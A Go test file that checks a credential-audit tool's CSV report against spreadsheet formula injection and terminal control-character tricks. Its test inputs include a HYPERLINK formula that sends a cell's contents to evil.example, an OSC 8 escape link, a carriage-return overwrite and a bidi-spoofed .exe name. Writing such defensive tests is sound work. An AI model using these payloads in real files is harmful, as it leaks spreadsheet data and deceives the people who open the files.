package report

import (
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/keywarden/keywarden/internal/config"
	"github.com/keywarden/keywarden/internal/policy"
)

func readCSV(t *testing.T, s string) [][]string {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(s)).ReadAll()
	if err != nil {
		t.Fatalf("CSV report does not parse: %v", err)
	}
	return rows
}

func TestCSVText(t *testing.T) {
	tests := []struct{ in, want string }{
		{"=1+2", "'=1+2"},
		{"+1", "'+1"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\tx", " x"},
		{"\rx", " x"},
		{"\t=1", "' =1"},
		{"alice", "alice"},
		{"a=b", "a=b"},
		{" =1", "' =1"},
		{"  @SUM(A1)", "'  @SUM(A1)"},
		{"   ", "   "},
		{"'=1", "'=1"},
		{"", ""},
	}
	for _, tt := range tests {
		if got := csvText(tt.in); got != tt.want {
			t.Errorf("csvText(%q) = %q; want %q", tt.in, got, tt.want)
		}
	}
}

// TestCSVStripsControlCharacters: control characters in a cell would act
// on the terminal of whoever cats the file (an ESC sequence, a carriage
// return that overwrites "bob" with "root"), or hide text (NUL, a bidi
// override). Tabs and carriage returns become spaces, CR LF a line break
// (a quoted cell keeps line breaks), the other controls and bidi controls
// are dropped, invalid UTF-8 becomes U+FFFD.
func TestCSVStripsControlCharacters(t *testing.T) {
	tests := []struct{ in, want string }{
		{"bob\x1b]8;;https://evil.example\x07click\x1b]8;;\x07", "bob]8;;https://evil.exampleclick]8;;"},
		{"mallory\rroot", "mallory root"},
		{"a\x00b\x7fc\u0085d", "abcd"},
		{"bidi\u202egnp.exe\u2066x\u2069", "bidignp.exex"},
		{"tab\there", "tab here"},
		{"line one\r\nline two\nthree", "line one\nline two\nthree"},
		{"bad\xffutf8", "bad\uFFFDutf8"},
		{"\x1b=cmd", "'=cmd"},
		{"\t=cmd", "' =cmd"},
	}
	for _, tt := range tests {
		if got := csvText(tt.in); got != tt.want {
			t.Errorf("csvText(%q) = %q; want %q", tt.in, got, tt.want)
		}
	}
}

// TestCSVFormulaInjection: every text column that can carry user-controlled
// text is guarded; numbers we write ourselves (a negative days_left) are not.
func TestCSVFormulaInjection(t *testing.T) {
	hostile := `=HYPERLINK("http://evil.example/?"&A1,"click")`
	r := New(time.Time{}, time.Time{}, []Account{{ID: "111111111111", Alias: "@alias", Status: StatusOK}}, []policy.Finding{{
		ID: "+id", Account: "111111111111", User: hostile, Class: "-class", Credential: policy.CredentialPassword,
		KeyID: "=key", Rule: config.RulePasswordExpiry, DaysLeft: intp(-3), Action: "+action", Severity: "@sev",
		Exempt: true, ExemptReason: "\tcmd", Recipients: []string{"=a@example.com", "b@example.com"}, Reason: "\r=cmd",
	}})
	rows := readCSV(t, render(t, r, FormatCSV, Options{}))
	if len(rows) != 2 {
		t.Fatalf("CSV report has %d rows; want header + 1", len(rows))
	}
	got := map[string]string{}
	for i, name := range rows[0] {
		got[name] = rows[1][i]
	}
	want := map[string]string{
		"id": "'+id", "account_alias": "'@alias", "user": "'" + hostile, "class": "'-class",
		"key_id": "'=key", "action": "'+action", "severity": "'@sev", "exempt_reason": " cmd",
		"recipients": "'=a@example.com;b@example.com", "reason": "' =cmd", "days_left": "-3",
	}
	for col, w := range want {
		if got[col] != w {
			t.Errorf("CSV %s = %q; want %q", col, got[col], w)
		}
	}
}

func TestCSVColumns(t *testing.T) {
	rows := readCSV(t, render(t, sampleReport(), FormatCSV, Options{}))
	wantHeader := []string{
		"id", "account", "account_alias", "user", "class", "credential", "key_id", "slot", "rule", "age_days",
		"days_left", "stage_at", "action", "severity", "next_stage_on", "exempt", "exempt_reason", "recipients", "reason",
		"class_from_tag", "exempt_from_tag", "service", "controls",
	}
	if diff := cmp.Diff(wantHeader, rows[0]); diff != "" {
		t.Errorf("CSV header differs (-want +got):\n%s", diff)
	}
	if got, want := len(rows)-1, len(sampleReport().Findings); got != want {
		t.Fatalf("CSV has %d finding rows; want %d", got, want)
	}
	// The password_expiry finding: two recipients, a negative days_left, no slot.
	var row []string
	for _, r := range rows[1:] {
		if r[0] == "e7e7e7e7a1b2c3d4" {
			row = r
		}
	}
	want := []string{
		"e7e7e7e7a1b2c3d4", "111111111111", "prod-main", userHTMLPipe, "human", "password", "", "", "password_expiry", "93",
		"-3", "0", "notify", "high", "", "false", "", "ops@example.com;sec@example.com", "console password expired 3 days ago (max age 90)",
		"", "", "", "",
	}
	if diff := cmp.Diff(want, row); diff != "" {
		t.Errorf("CSV row of the password_expiry finding differs (-want +got):\n%s", diff)
	}
}

// TestCSVControlsAndService: controls are joined with ";", the service is
// its own column, and both keep the formula guard.
func TestCSVControlsAndService(t *testing.T) {
	fs := complianceReport().Findings
	fs = append(fs, policy.Finding{ID: "f0f0f0f0f0f0f0f0", Account: "111111111111", User: "x", Service: "=svc", Controls: []string{"@c", "CIS 1.4"}})
	rows := readCSV(t, render(t, New(time.Time{}, time.Time{}, nil, fs), FormatCSV, Options{}))
	col := map[string]int{}
	for i, h := range rows[0] {
		col[h] = i
	}
	got := map[string][2]string{}
	for _, r := range rows[1:] {
		got[r[col["id"]]] = [2]string{r[col["service"]], r[col["controls"]]}
	}
	want := map[string][2]string{
		"c2c2c2c2c2c2c2c2": {"codecommit.amazonaws.com", ""},
		"c9c9c9c9c9c9c9c9": {"", "CIS 1.8;CIS 1.9"},
		"cdcdcdcdcdcdcdcd": {"", "CIS 1.5;CIS 1.6"},
		"f0f0f0f0f0f0f0f0": {"'=svc", "'@c;CIS 1.4"},
	}
	for id, w := range want {
		if got[id] != w {
			t.Errorf("CSV service, controls of %s = %q; want %q", id, got[id], w)
		}
	}
}

// TestCSVMultilineCell: a newline in a cell stays inside the quoted cell.
func TestCSVMultilineCell(t *testing.T) {
	r := New(time.Time{}, time.Time{}, nil, []policy.Finding{{ID: "x", User: "bob", ExemptReason: "line one\nline two, \"quoted\""}})
	rows := readCSV(t, render(t, r, FormatCSV, Options{}))
	if got := rows[1][16]; got != "line one\nline two, \"quoted\"" {
		t.Errorf("CSV exempt_reason = %q; want the text unchanged", got)
	}
}
